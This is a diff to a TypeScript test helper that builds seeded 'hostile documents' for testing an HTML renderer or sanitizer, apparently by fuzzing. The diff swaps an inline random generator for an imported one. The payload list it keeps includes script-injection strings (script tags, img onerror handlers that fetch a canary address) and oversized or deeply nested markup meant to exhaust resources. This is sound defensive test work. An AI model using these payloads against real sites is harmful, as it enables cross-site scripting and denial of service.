@@ -1,16 +1,9 @@
-/** Numbers from 0 to 1, the same for the same seed. */
-function aDice(seed: number) {
-  let state = seed >>> 0
-  return () => {
-    state = (state + 0x6d2b79f5) >>> 0
-    let mixed = Math.imul(state ^ (state >>> 15), state | 1)
-    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61)
-    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296
-  }
-}
+import { chanceFrom } from '../../papers/bed/random.ts'
+
+type Dice = (most: number) => number
 
 /** Pieces that would run, load, cover or break something, each in several spellings. `to` is an address that must never be asked. */
-const PIECES: ((to: string, dice: () => number) => string)[] = [
+const PIECES: ((to: string, dice: Dice) => string)[] = [
   (to) => `<script>fetch('${to}/script')</script>`,
   (to) => `<ScRiPt src="${to}/src"></sCrIpT >`,
   (to) => `<img src=x onerror="fetch('${to}/onerror')">`,
@@ -51,18 +44,18 @@ const PIECES: ((to: string, dice: () => number) => string)[] = [
     `<table><tr><td colspan="1000000000" rowspan="1000000000">wide</td><td colspan="-1">x</td></tr><tr><th rowspan=0>y</table>`,
   () => `<table><colgroup><col style="width:1e9px" span="100000"></colgroup><tr><td>col</td></tr></table>`,
   () => `<ol start="999999999999999999999"><li>a</ol><ol start="-1e9"><li>b<ol start="NaN"><li>c</ol></ol>`,
-  (_to, dice) => '<b><i><u><s>'.repeat(1 + Math.floor(dice() * 60)),
-  (_to, dice) => `${'<ul><li>'.repeat(1 + Math.floor(dice() * 200))}deep`,
-  (_to, dice) => `${'<table><tr><td>'.repeat(1 + Math.floor(dice() * 60))}inner`,
-  (_to, dice) => `${'<blockquote><div><span>'.repeat(1 + Math.floor(dice() * 400))}quoted`,
-  (_to, dice) => `<p>${'x'.repeat(1 + Math.floor(dice() * 20_000))}</p>`,
+  (_to, dice) => '<b><i><u><s>'.repeat(dice(60)),
+  (_to, dice) => `${'<ul><li>'.repeat(dice(200))}deep`,
+  (_to, dice) => `${'<table><tr><td>'.repeat(dice(60))}inner`,
+  (_to, dice) => `${'<blockquote><div><span>'.repeat(dice(400))}quoted`,
+  (_to, dice) => `<p>${'x'.repeat(dice(20_000))}</p>`,
   () => `<h1><h2><h3></h1>mixed</h3></h2><p><table><tr><p>misplaced</tr></table></p><li>alone</li><td>cell</td>`,
   () => `<hr class="page-break" style="break-after:page">`.repeat(3),
   () =>
     `<p id="x" class="cara-cover cara-masthead" style="text-align:center;color:#abc">Named</p><p id="x">twice</p><a href="#x">in</a>`,
 ]
 
-const HEAVY: ((dice: () => number) => string)[] = [
+const HEAVY: (() => string)[] = [
   () => `<p>${'word '.repeat(200_000)}</p>`,
   () => `<p>${'a'.repeat(1_000_000)}</p>`,
   () => `<table>${`<tr>${'<td>1</td>'.repeat(40)}</tr>`.repeat(150)}</table>`,
@@ -74,14 +67,15 @@ const HEAVY: ((dice: () => number) => string)[] = [
 
 /** So many hostile documents, the same ones each time. Every 25th is large. */
 export function hostileDocuments(count: number, to: string, seed = 1): string[] {
-  const dice = aDice(seed)
+  const chance = chanceFrom(seed)
+  const dice: Dice = (most) => chance.int(1, most)
   return Array.from({ length: count }, (_, index) => {
-    const pieces = Array.from({ length: 2 + Math.floor(dice() * 8) }, (__, at) => {
+    const pieces = Array.from({ length: 1 + dice(8) }, (__, at) => {
       // Each piece comes in its turn, so that all come often.
-      const piece = at === 0 ? PIECES[index % PIECES.length]! : PIECES[Math.floor(dice() * PIECES.length)]!
-      return `${piece(to, dice)}${dice() < 0.4 ? '<p>Renewal of the policy.</p>' : ''}`
+      const piece = at === 0 ? PIECES[index % PIECES.length]! : chance.pick(PIECES)
+      return `${piece(to, dice)}${chance.maybe(0.4) ? '<p>Renewal of the policy.</p>' : ''}`
     })
-    if (index % 25 === 24) pieces.push(HEAVY[Math.floor(index / 25) % HEAVY.length]!(dice))
+    if (index % 25 === 24) pieces.push(HEAVY[Math.floor(index / 25) % HEAVY.length]!())
     return pieces.join('')
   })
 }
